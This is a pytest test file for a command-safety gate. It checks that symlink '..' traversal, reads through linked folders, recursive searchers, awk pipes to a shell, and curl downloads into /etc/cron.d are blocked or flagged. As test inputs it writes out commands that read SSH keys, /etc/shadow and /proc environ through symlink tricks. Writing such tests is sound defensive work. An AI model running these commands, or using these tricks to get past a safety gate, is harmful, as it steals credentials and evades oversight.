"""Links met on the way to a ``..``, a folder entered through a link, the searchers that read whole trees by
default, and folders full of links judged once per decision (judged on real links in a temporary folder)."""

from __future__ import annotations

import os
import time
from dataclasses import replace
from pathlib import Path

import pytest

from contop.core.defaults import default_restricted_paths
from contop.security import paths
from contop.security.decision import GateContext, ToolCall
from contop.security.gate import classify_command, decide
from contop.security.paths import Walk, policy_for
from tests.security.corpus_support import posix_context

pytestmark = pytest.mark.skipif(os.name != "posix", reason="POSIX symbolic links")


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """A home with a secret and a project in it, and a vault outside it that the user's settings protect."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("key")
    (home / "proj" / "src").mkdir(parents=True)
    (home / "proj" / "src" / "main.py").write_text("print(1)")
    (tmp_path / "vault").mkdir()
    (tmp_path / "vault" / "plans.txt").write_text("plans")
    return tmp_path


def context(tree: Path, cwd: Path | None = None) -> GateContext:
    state = str(tree / "home" / ".contop")
    restricted = (*default_restricted_paths(state), str(tree / "vault"))
    return replace(posix_context(), home=str(tree / "home"), cwd=str(cwd or tree / "home" / "proj"), state_dir=state,
                   restricted_paths=tuple(restricted))  # fmt: skip


def verdict(command: str, ctx: GateContext) -> str:
    return classify_command(command, ctx).verdict


# --- '..' after a link: the kernel follows the link first


def test_a_dotdot_after_a_link_is_taken_from_where_the_link_points(tree: Path) -> None:
    proj = tree / "home" / "proj"
    (proj / "sshlink").symlink_to("../.ssh")  # '..' from inside .ssh is the home
    (proj / "etclink").symlink_to("/etc")
    (proj / "vl").symlink_to(tree / "vault")
    ctx = context(tree)
    for command in ("cat sshlink/../.ssh/id_rsa", "cat etclink/../etc/shadow", f"cat {proj}/sshlink/../.ssh/id_rsa",
                    "cat ./sshlink/../.ssh/*", "cat s*/../.ssh/id_rsa", "cat vl/../vault/plans.txt",
                    "cat src/../sshlink/../.ssh/id_rsa"):  # fmt: skip
        assert verdict(command, ctx) == "block", command
    assert decide(ToolCall("read_file", {"file_path": "etclink/../etc/shadow"}), ctx).verdict == "block"
    assert verdict("grep -r x sshlink/..", ctx) == "confirm"  # the whole home, ~/.ssh with it


def test_a_dotdot_without_a_link_before_it_stays_as_written(tree: Path) -> None:
    ctx = context(tree, tree / "home" / "proj" / "src")
    for command in ("cat ../src/main.py", "cat ../src/../src/main.py", "ls ../..", "cat ./*/../src/main.py"):
        assert verdict(command, ctx) == "safe", command


def test_the_walk_answers_like_realpath_for_a_dotdot_after_a_link(tree: Path) -> None:
    proj = tree / "home" / "proj"
    (proj / "sshlink").symlink_to("../.ssh")
    for probe in ("sshlink/..", "sshlink/../.ssh/id_rsa", "sshlink/../../vault"):
        path = f"{proj}/{probe}"
        assert Walk()(path) == os.path.realpath(path), probe


# --- a folder entered through a link


def test_bare_names_in_a_folder_entered_through_a_link_are_judged(tree: Path) -> None:
    proj = tree / "home" / "proj"
    (proj / "e").symlink_to("/etc")
    (proj / "p").symlink_to("/proc")
    ctx = context(tree)
    for command in ("cd e && cat shadow", "cd p/1 && cat environ", "cd p/self; cat environ", "cd e; cat shado*"):
        assert verdict(command, ctx) == "block", command
    assert verdict("cd e && cat hostname", ctx) == "safe"


# --- searchers that read whole trees


def test_searchers_read_the_trees_they_are_given(tree: Path) -> None:
    proj = tree / "home" / "proj"
    (proj / "vl").symlink_to(tree / "vault")
    ctx = context(tree)
    for command in ("rg PRIVATE /", "rg -a KEY /proc", "rg -L PRIVATE .", "rg -Lu x ~", "rg --hidden x ~",
                    "rg -. x ~", "rg -e x -- /etc", "ag x /", "ag --hidden x ~",
                    "ag -C x /", "ag -u x ~", "grep -d recurse x ~", "grep -drecurse x ~", "grep -id rec x ~",
                    "grep --directories recurse x ~", "grep --dir=recurse x ~", "grep --rec x ~",
                    "grep --deref x ~", "ack x ~"):  # fmt: skip
        assert verdict(command, ctx) == "confirm", command
    assert verdict("rg -g '*.txt' x vl", ctx) == "block"  # a link to a protected folder, named on the line


def test_everyday_searches_stay_safe(tree: Path) -> None:
    ctx = context(tree)
    for command in ("rg TODO", "rg -n foo src", "rg -g '*.py' foo .", "rg -e foo -e bar src", "ag foo", "ag -C 3 foo",
                    "grep -rn foo src/", "cat src/*.py", "rg x ~", "ag x ~", "grep -d skip x ~", "rg --help",
                    "grep -d read x *"):  # fmt: skip
        assert verdict(command, ctx) == "safe", command


# --- folders full of links


def test_a_folders_links_are_looked_at_once_per_decision(tree: Path) -> None:
    """The decision's walk keeps what a folder held: a line that names it again reuses it (the next decision looks
    again, and sees a link made meanwhile)."""
    proj = tree / "home" / "proj"
    ctx = context(tree)
    policy = policy_for(ctx.home, ctx.state_dir, ctx.restricted_paths, False, ctx.cwd)
    walk = Walk()
    assert policy.restricted_inside("src", ctx.cwd, walk) is None
    (proj / "src" / "keys").symlink_to(tree / "home" / ".ssh")
    assert policy.restricted_inside("src", ctx.cwd, walk) is None  # the same decision: the same answer
    assert policy.restricted_inside("src", ctx.cwd, Walk()) is not None
    assert verdict("grep -r x src", ctx) == "confirm"


def test_a_folder_with_more_links_than_are_followed_is_asked_about(tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(paths, "MAX_FOLDER_LINKS", 8)
    links = tree / "home" / "proj" / "links"
    links.mkdir()
    for i in range(9):
        (links / f"l{i}").symlink_to(tree / "home" / "proj" / "src")
    ctx = context(tree)
    result = classify_command("grep -r x links", ctx)
    assert result.verdict == "confirm" and "more links than the gate follows" in result.reason
    (links / "l8").unlink()
    assert verdict("grep -r x links", ctx) == "safe"


@pytest.mark.timeout(60)
def test_a_line_naming_a_folder_of_links_many_times_is_judged_quickly(tree: Path) -> None:
    """1500 tree reads and 2000 globs of one folder of 400 links: each took seconds when every mention listed the
    folder and followed every link again (19.7 s and 7.9 s for /usr/bin)."""
    links = tree / "home" / "proj" / "b"
    links.mkdir()
    for i in range(400):
        (links / f"tool{i}").symlink_to(tree / "home" / "proj" / "src" / "main.py")
    ctx = context(tree)
    for command in ("grep -rl x b; " * 1500, "cat b/*; " * 2000):  # short names: a line is judged up to 32000
        start = time.perf_counter()
        assert verdict(command, ctx) == "safe"
        assert time.perf_counter() - start < 4.0


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("""awk 'BEGIN{print | "cat ~/.ssh/id_rsa"}'""", "block"),
        ("""awk 'BEGIN{"cat /etc/shadow" | getline x; print x}'""", "block"),
        ("""awk '{print | "sh"}' f""", "confirm"),  # the data becomes a script, as in cat f | sh
        ("""awk '{print | "bash -s"}' f""", "confirm"),
        ("""awk '{print | cmd}' f""", "confirm"),  # a command built when it runs
        ("""awk '{print | "sort -u"}' f""", "safe"),
        ("""awk 'BEGIN{while (("ls" | getline line) > 0) print line}'""", "safe"),
        ("""awk '{ if ($1 || $2) print $1 }' f""", "safe"),
    ],
)
def test_the_commands_an_awk_program_pipes_to_or_from_are_judged(command: str, expected: str) -> None:
    """awk runs `print | "cmd"` and `"cmd" | getline` through a shell, as it does system()."""
    assert classify_command(command, posix_context()).verdict == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("perl -i -pe 1 /etc/hosts", "block"),  # as sed -i on an operating system file
        ("ruby -i -pe 1 ~/.bashrc", "confirm"),  # a login file
        ("curl --output-dir=/etc/cron.d -O http://x/job", "block"),  # the = form of --output-dir
        ("perl -pi -e s/a/b/ src/x.c", "safe"),
        ("curl --output-dir=dl -O http://x/job.tgz", "safe"),
    ],
)
def test_in_place_edits_and_attached_option_values_are_judged_where_they_write(command: str, expected: str) -> None:
    assert classify_command(command, posix_context()).verdict == expected
